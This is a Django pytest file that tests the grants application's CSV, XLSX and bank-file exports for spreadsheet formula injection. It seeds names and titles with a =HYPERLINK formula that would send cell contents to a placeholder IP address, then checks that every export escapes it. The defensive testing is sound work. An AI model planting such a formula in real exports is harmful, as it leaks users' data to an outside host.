"""Every table that leaves the house, with names and titles that a spreadsheet would take for formulas."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from grants.applications.models import Application
from grants.organisations.models import BankAccount, Organisation
from grants.payments.bank_file import write_bank_file
from grants.payments.models import Payment
from grants.workshops.models import Booking
from tests.architecture.access_table import ACCESS
from tests.architecture.world import World, make_world

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"Open")'
TABLES = [name for name in ACCESS if name.endswith(("_csv", "_xlsx", "_export"))]


@pytest.fixture
def world(db: None) -> World:
    world = make_world()
    Organisation.objects.update(name=FORMULA)
    Application.objects.update(title=FORMULA, summary=FORMULA)
    Booking.objects.update(name=FORMULA)
    return world


def risky(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def content_of(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_of(content: bytes, kind: str) -> Iterator[str]:
    if "csv" in kind:
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            yield from row
        return
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for line in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in line)
            yield from (f"'{cell.value}" for cell in line if cell.value is not None)


@pytest.mark.parametrize("name", TABLES)
def test_no_table_carries_a_formula(name: str, world: World) -> None:
    access = ACCESS[name]
    client = Client()
    client.force_login(world.people["administrator"])
    response = client.get(reverse(name, kwargs=access.args(world)))
    assert response.status_code == 200
    cells = list(cells_of(content_of(response), response["Content-Type"]))
    assert cells
    assert risky(cells) == []


def test_case_list_names_the_group_as_text(world: World) -> None:
    client = Client()
    client.force_login(world.people["administrator"])
    for kind in ("csv", "xlsx"):
        response = client.get(reverse("desk:case_export", kwargs={"kind": kind}))
        assert f"'{FORMULA}" in list(cells_of(content_of(response), response["Content-Type"]))


def test_file_for_the_bank_carries_no_formula(world: World) -> None:
    BankAccount.objects.update(account_name=FORMULA)
    payment = Payment.objects.select_related("bank_account").get(pk=world.payment.pk)
    cells = list(cells_of(write_bank_file([payment]), "csv"))
    assert f"'{FORMULA}" in cells
    assert risky(cells) == []
